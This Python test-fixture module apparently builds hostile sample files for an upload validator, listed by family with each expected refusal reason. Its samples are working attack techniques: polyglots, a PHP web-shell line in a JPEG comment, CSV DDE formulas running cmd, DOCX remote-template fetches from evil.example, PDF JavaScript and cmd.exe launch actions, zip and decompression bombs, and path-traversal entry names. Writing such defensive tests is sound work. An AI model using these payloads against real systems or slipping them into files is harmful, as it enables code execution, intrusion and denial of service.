"""Hostile files by family: what each is called, what it holds, and a word of its refusal."""

import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.factories.files import (
    DOCX,
    JPEG,
    PDF,
    PNG,
    SHEET,
    WORD,
    XLSX,
    chunk,
    docx_parts,
    docx_with,
    jpeg_of,
    opened,
    packed,
    png_of,
    rels_of,
    saved,
    segment,
    types_of,
)

PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
ARCHIVE = packed({"run.class": b"\xca\xfe\xba\xbe"})
OTHERWISE = "does not hold what its name says"
SCRIPT = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def pdf_with(**root) -> bytes:
    pdf = opened()
    for name, told in root.items():
        pdf.Root[f"/{name}"] = told
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_file() -> bytes:
    pdf = opened()
    pdf.attachments["figures.xlsx"] = b"PK"
    return saved(pdf)


def pdf_with_hidden_names() -> bytes:
    """A script whose names are written by the numbers of their letters."""
    script = b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"
    return PDF.replace(b"<< /Type /Catalog", b"<< " + script + b" /Type /Catalog")


def zeros(megabytes: int) -> bytes:
    """So many zeros, packed without ever holding them."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(bytes(1024 * 1024)) + packer.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    total = (megabytes * 1024 * 1024 % 65521) << 16 | 1
    return b"\x78\xda" + one * megabytes + end + struct.pack(">I", total)


def pdf_with_object_stream(packed_objects: bytes) -> bytes:
    """A PDF whose fifth object lies packed in its fourth."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Note 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(packed_objects), packed_objects),
    ]
    made, rows = b"%PDF-1.7\n", [struct.pack(">BIH", 0, 0, 65535)]
    for number, one in enumerate(objects, 1):
        rows.append(struct.pack(">BIH", 1, len(made), 0))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    rows += [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, len(made), 0)]
    listed = b"".join(rows)
    told = b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d" % len(listed)
    end = b"startxref\n%d\n%%%%EOF\n" % len(made)
    return made + b"6 0 obj\n<< %s >>\nstream\n%s\nendstream\nendobj\n" % (told, listed) + end


def within_zip_comment(content: bytes, behind: bytes) -> bytes:
    """An archive at the front of whose list stands another file, and in whose comment its end."""
    end = ARCHIVE.rindex(b"PK\x05\x06")
    moved = len(content)
    listed = ARCHIVE.index(b"PK\x01\x02")
    head = ARCHIVE[: end + 16] + struct.pack("<IH", listed + moved, len(behind))
    return content + head + behind


def overlapping() -> bytes:
    """Many names in the list for one part."""
    entry_at = DOCX.index(b"PK\x01\x02")
    end_at = DOCX.rindex(b"PK\x05\x06")
    first_end = DOCX.index(b"PK\x01\x02", entry_at + 4)
    extra = b"".join(
        DOCX[entry_at:first_end].replace(b"[Content_Types].xml", b"[Content_Types%03d]" % n)
        for n in range(100)
    )
    listed = DOCX[entry_at:end_at] + extra
    count = 103
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(listed), entry_at, 0)
    return DOCX[:entry_at] + listed + end


def lying_bomb(name: str = "word/media/x.bin", megabytes: int = 110) -> bytes:
    """A part that says it is small, and unpacks to a great deal."""
    packer = zlib.compressobj(1, zlib.DEFLATED, -15)
    zeros = b"\0" * 1024 * 1024
    bomb = b"".join(packer.compress(zeros) for _ in range(megabytes)) + packer.flush()
    honest = docx_with({name: b"\0" * 100})
    at = honest.rindex(name.encode(), 0, honest.index(b"PK\x01\x02"))
    data_at = at + len(name)
    listed_at = honest.index(b"PK\x01\x02")
    (packed_size,) = struct.unpack_from("<I", honest, at - 12)
    grown = len(bomb) - packed_size
    listed = bytearray(honest[listed_at:])
    entry = listed.rindex(name.encode()) - 46
    struct.pack_into("<I", listed, entry + 20, len(bomb))
    end = listed.rindex(b"PK\x05\x06")
    struct.pack_into("<I", listed, end + 16, listed_at + grown)
    front = bytearray(honest[:data_at])
    struct.pack_into("<I", front, at - 12, len(bomb))
    return bytes(front) + bomb + honest[data_at + packed_size : listed_at] + bytes(listed)


def related(kind: str, target: str, mode: str = "External") -> bytes:
    return docx_with({"word/_rels/document.xml.rels": rels_of((kind, target, mode))})


def declared(kind: str) -> bytes:
    more = f'<Override PartName="/word/x.bin" ContentType="{kind}"/>'
    return docx_with({"[Content_Types].xml": types_of("word/document.xml", WORD, more)})


def sheet_with(parts: dict) -> bytes:
    main = {
        "[Content_Types].xml": types_of("xl/workbook.xml", SHEET),
        "xl/workbook.xml": "<workbook/>",
    }
    return packed({**main, **parts})


def nested(depth: int) -> bytes:
    content = DOCX
    for _ in range(depth):
        content = docx_with({"word/embeddings/inner.docx": content})
    return content


def locked_archive() -> bytes:
    content = bytearray(DOCX)
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


MACROS, OBJECTS, FETCHES = "macros", "enclosed", "another computer"
SECOND, CODE = "second kind of file", "web page or a program"
FAMILIES = {
    "disguised": [
        ("page.pdf", PAGE, OTHERWISE),
        ("page.csv", PAGE, CODE),
        ("page.png", PAGE, OTHERWISE),
        ("drawing.png", SVG, OTHERWISE),
        ("drawing.csv", SVG, "begins as another kind"),
        ("feed.csv", b"<?xml version='1.0'?><a/>", "begins as another kind"),
        (
            "page.docx",
            b"<?xml version='1.0'?><?mso-application progid='Word.Document'?>",
            OTHERWISE,
        ),
        ("drawing.svg", SVG, "not one of the kinds"),
        ("program.pdf", PROGRAM, OTHERWISE),
        ("program.csv", PROGRAM, "not text"),
        ("program.exe", PROGRAM, "not one of the kinds"),
        ("photo.png", JPEG, OTHERWISE),
        ("photo.jpg", PNG, OTHERWISE),
        ("letter.docx", PDF, OTHERWISE),
        ("letter.docx", XLSX, OTHERWISE),
        ("table.xlsx", DOCX, OTHERWISE),
        ("archive.docx", packed({"a.xml": "<x/>"}), OTHERWISE),
        ("letter.rtf", b"{\\rtf1}", "not one of the kinds"),
        ("letter.csv", b"{\\rtf1 hello}", "begins as another kind"),
        ("script.csv", b"#!/bin/sh\nid\n", "begins as another kind"),
        ("paper.csv", PDF, OTHERWISE),
        ("noname", PDF, "not one of the kinds"),
    ],
    "two at once": [
        ("both.pdf", PDF + ARCHIVE, SECOND),
        ("both.pdf", PDF + PROGRAM, "behind its end"),
        ("both.pdf", within_zip_comment(PDF, b"%%EOF"), SECOND),
        ("both.pdf", PDF.replace(b"Method", PAGE), CODE),
        ("both.pdf", PDF + PAGE, CODE),
        ("both.pdf", b"\n" + PAGE + PDF, OTHERWISE),
        ("both.jpg", JPEG + ARCHIVE, SECOND),
        ("both.jpg", within_zip_comment(JPEG, JPEG), SECOND),
        ("both.jpg", JPEG + PDF, SECOND),
        ("both.jpg", JPEG + b"\0" * 2000 + PDF, "behind the picture"),
        ("both.jpg", jpeg_of(before=segment(0xFE, b"<?php system($_GET[0]);")), CODE),
        ("both.jpg", JPEG + b"<?php __HALT_COMPILER(); ?>", CODE),
        ("both.jpg", jpeg_of(before=segment(0xFE, b"\0" * 233 + b"ustar")), SECOND),
        ("both.png", PNG + PAGE, CODE),
        ("both.png", PNG + ARCHIVE, SECOND),
        ("both.png", PNG + b"alert(1)", "behind the picture"),
        ("both.png", png_of(before=chunk(b"tEXt", b"a\0" + PAGE)), CODE),
        ("both.png", png_of(before=chunk(b"tEXt", b"a\0" + PDF)), SECOND),
        ("both.docx", ARCHIVE + DOCX, "between its parts"),
        ("both.docx", DOCX + PDF, SECOND),
        ("both.xlsx", XLSX + PDF, "behind its end"),
        ("both.docx", PDF + DOCX, OTHERWISE),
        ("gif.jpg", b"GIF89a/*" + ARCHIVE, OTHERWISE),
    ],
    "macros and what runs": [
        ("m.docx", docx_with({"word/vbaProject.bin": OLD_WORD}), MACROS),
        ("m.docx", docx_with({"word/theme/theme.bin": OLD_WORD}), MACROS),
        ("m.docx", declared("application/vnd.ms-office.vbaProject"), MACROS),
        ("m.docx", related("http://x/vbaProject", "x.bin", "Internal"), MACROS),
        (
            "m.docx",
            packed(
                docx_parts(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
            ),
            MACROS,
        ),
        ("m.xlsx", sheet_with({"xl/macrosheets/sheet1.xml": "<x/>"}), MACROS),
        ("m.xlsx", sheet_with({"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}), MACROS),
        ("m.docx", docx_with({"word/activeX/activeX1.xml": "<x/>"}), MACROS),
        (
            "m.docx",
            docx_with(
                {"word/a.xml": "<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO c:\\x"}
            ),
            MACROS,
        ),
        ("m.docx", docx_with({"word/a.xml": "<w:fldSimple w:instr='DDE cmd x'/>"}), MACROS),
        ("m.docx", docx_with({"word/media/logo.png": PROGRAM}), OBJECTS),
        ("m.docx", docx_with({"word/media/logo.png": ARCHIVE}), OBJECTS),
        ("m.docx", related("oleObject", "embeddings/oleObject1.bin", "Internal"), OBJECTS),
        ("m.docx", related("package", "embeddings/deck.pptx", "Internal"), OBJECTS),
        ("m.docx", related("aFChunk", "chunk.html", "Internal"), OBJECTS),
        ("m.docx", docx_with({"word/embeddings/inner.xlsx": ARCHIVE}), OBJECTS),
        ("dde.csv", b"a,b\n=cmd|'/C calc'!A0,1\n", "formula"),
        ("dde.csv", b'a,b\n"+HYPERLINK(""http://x"";A1)",1\n', "formula"),
        ("dde.csv", b'a;b\n =1+WEBSERVICE("http://x"),1\n', "formula"),
    ],
    "fetching": [
        ("f.docx", related("attachedTemplate", "https://evil.example/t.dotm"), FETCHES),
        ("f.docx", related("attachedTemplate", "\\\\evil.example\\t.dotm"), FETCHES),
        ("f.docx", related("attachedTemplate", "file://evil.example/t.dotm"), FETCHES),
        ("f.docx", related("attachedTemplate", "file:////evil.example/t.dotm"), FETCHES),
        ("f.docx", related("attachedTemplate", "%5c%5cevil.example/t.dotm"), FETCHES),
        ("f.docx", related("image", "http://evil.example/seen.png"), FETCHES),
        ("f.docx", related("frame", "mhtml:http://evil.example/a"), FETCHES),
        (
            "f.xlsx",
            sheet_with({"xl/_rels/workbook.xml.rels": rels_of(("connections", "c"))}),
            FETCHES,
        ),
        (
            "f.docx",
            docx_with({"word/a.xml": "<w:instrText> INCLUDEPICTURE &quot;http://x</w:instrText>"}),
            FETCHES,
        ),
    ],
    "locked": [
        ("l.docx", OLD_WORD, "password"),
        ("l.xlsx", OLD_WORD, "password"),
        ("l.pdf", saved(opened(), encryption=pikepdf.Encryption(user="a", owner="b")), "password"),
        ("l.docx", locked_archive(), "password"),
    ],
    "PDF that acts": [
        ("p.pdf", pdf_with(OpenAction=SCRIPT), "script"),
        ("p.pdf", pdf_with(Deep=Array([Array([Dictionary(A=SCRIPT)])])), "script"),
        ("p.pdf", pdf_with_hidden_names(), "script"),
        ("p.pdf", pdf_with(OpenAction=Dictionary(S=Name.Launch, F="cmd.exe")), "script"),
        ("p.pdf", pdf_with(OpenAction=Dictionary(S=Name.SubmitForm, F="http://x")), "other places"),
        ("p.pdf", pdf_with(OpenAction=Dictionary(S=Name.GoToR, F="\\\\evil\\x")), "other places"),
        ("p.pdf", pdf_with(OpenAction=Dictionary(S=Name.GoToE)), "files enclosed"),
        ("p.pdf", pdf_with(AcroForm=Dictionary(XFA="<x/>")), "script"),
        ("p.pdf", pdf_with_file(), "files enclosed"),
    ],
    "spoilt": [
        ("s.pdf", b"%PDF-1.7\n", "cut short"),
        ("s.pdf", b"%PDF-1.7\n%%EOF", "cut short"),
        ("s.pdf", PDF[:-8], "cut short"),
        ("s.png", PNG[:-5], "cut short"),
        ("s.png", PNG[:40] + b"\xff" + PNG[41:], "cut short"),
        ("s.jpg", JPEG[:-2], "cut short"),
        ("s.jpg", b"\xff\xd8\xff\xd9", "cut short"),
        ("s.docx", DOCX[:-30], "spoilt"),
        ("s.docx", b"PK\x03\x04" + b"\xff" * 40, "spoilt"),
        ("s.docx", packed({**docx_parts(), "[Content_Types].xml": "<x"}), "spoilt"),
        ("s.csv", b"\xff\xfea\0,\0b\0", "not text"),
        ("s.csv", b"a,b\0c\n", "not text"),
        ("s.csv", b"a,\x81\x8d\x8f\n", "not text"),
        ("s.csv", bytes(range(256)), "not text"),
        ("s.pdf", b"", "is empty"),
    ],
    "bombs": [
        ("b.png", png_of(100_000, 100_000), "too large to draw"),
        ("b.png", png_of(29_000, 29_000), "too large to draw"),
        ("b.jpg", jpeg_of(65_000, 65_000), "too large to draw"),
        ("b.docx", lying_bomb(), "more than can be checked"),
        ("b.docx", docx_with({"word/media/x.bin": bytes(101 * 1024 * 1024)}), "more than can"),
        ("b.docx", docx_with({"word/big.xml": bytes(21 * 1024 * 1024)}), "more than can"),
        ("b.docx", packed({f"word/{n}.bin": b"" for n in range(4001)}), "more than can"),
        ("b.docx", overlapping(), "spoilt"),
        ("b.docx", nested(3), "more than can be checked"),
        (
            "b.docx",
            docx_with({"word/x.xml": "<!DOCTYPE x [<!ENTITY a 'aaa'>]><x>&a;</x>"}),
            "spoilt",
        ),
        (
            "b.docx",
            docx_with({"custom/x.xml": "<!ENTITY a 'aaa'>".encode("utf-16-le")}),
            "spoilt",
        ),
    ],
    "names within": [
        ("n.docx", docx_with({"../../etc/passwd": "x"}), "spoilt"),
        ("n.docx", docx_with({"/etc/passwd": "x"}), "spoilt"),
        ("n.docx", docx_with({"word\\evil.xml": "x"}), "spoilt"),
        ("n.docx", docx_with({"c:/evil": "x"}), "spoilt"),
        ("n.docx", docx_with({"WORD/document.xml": "x"}), "spoilt"),
    ],
}
HOSTILE = [
    (f"{family} {number}", *one)
    for family, all_of_them in FAMILIES.items()
    for number, one in enumerate(all_of_them)
]
